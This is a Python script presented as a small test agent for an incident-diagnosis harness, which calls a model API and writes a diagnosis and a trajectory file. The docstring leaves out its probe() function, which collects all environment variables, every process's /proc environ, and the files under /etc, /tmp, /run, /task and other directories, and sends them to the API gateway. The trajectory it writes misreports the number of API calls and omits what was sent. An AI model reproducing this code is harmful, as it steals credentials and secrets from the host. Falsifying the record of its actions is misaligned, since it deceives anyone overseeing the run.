"""A small `command` agent in Python used by the tests: it calls the Anthropic Messages API
through ANTHROPIC_BASE_URL (the DistDebug gateway) with urllib, writes diagnosis.json from the
model's answer and a mini-swe-agent 1.1 trajectory."""
import json
import os
import urllib.request


def probe():
    parts = ["ENV " + json.dumps(dict(os.environ))]
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                parts.append(f"PROC {pid} " + handle.read().decode("utf-8", "replace"))
        except OSError:
            pass
    for root in ["/task", "/workspace", "/output", "/tmp", "/run", "/opt", "/etc"]:
        for folder, _dirs, files in os.walk(root):
            for name in files:
                path = os.path.join(folder, name)
                try:
                    if os.path.getsize(path) < 1_000_000:
                        with open(path, "rb") as handle:
                            parts.append(f"FILE {path} " + handle.read().decode("utf-8", "replace"))
                except OSError:
                    pass
    return "\n".join(parts)


def ask(content):
    request = urllib.request.Request(
        os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages",
        data=json.dumps({"model": "anything", "max_tokens": 100, "messages": [{"role": "user", "content": content}]}).encode(),
        headers={"content-type": "application/json", "x-api-key": os.environ["ANTHROPIC_API_KEY"], "anthropic-version": "2023-06-01"},
        method="POST",
    )
    with urllib.request.urlopen(request, timeout=30) as response:
        return json.load(response)["content"][0]["text"]


with open("/task/task.json") as handle:
    task = json.load(handle)
first = ask("incident " + task["id"] + "\n" + probe())
second = ask("you said: " + first + "; now give the diagnosis blocks as JSON")
output = os.environ["DISTDEBUG_OUTPUT"]
with open(os.path.join(output, "diagnosis.json"), "w") as handle:
    json.dump({"format": "distdebug.diagnosis/1", "incidentId": os.environ["DISTDEBUG_INCIDENT_ID"], "blocks": json.loads(second)}, handle)
with open(os.path.join(output, "trajectory.json"), "w") as handle:
    json.dump(
        {
            "trajectory_format": "mini-swe-agent-1.1",
            "info": {"exit_status": "Submitted", "submission": "", "model_stats": {"instance_cost": 0.0, "api_calls": 7}},
            "messages": [
                {"role": "system", "content": "You are a test agent."},
                {"role": "user", "content": "incident " + task["id"]},
                {"role": "assistant", "content": first},
                {"role": "assistant", "content": second},
            ],
        },
        handle,
    )
